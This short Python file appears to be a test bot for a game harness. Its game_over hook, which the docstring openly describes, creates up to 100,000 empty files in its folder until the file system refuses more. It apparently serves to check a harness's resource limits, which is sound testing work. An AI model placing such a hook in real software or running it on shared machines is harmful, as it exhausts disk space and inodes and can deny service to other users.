"""Plays well, and after each game makes as many files in its folder as the file system takes."""

from bot import run


def game_over() -> None:
    try:
        for number in range(100_000):
            open(f"f{number}", "x").close()
    except OSError:
        return


run(game_over=game_over)
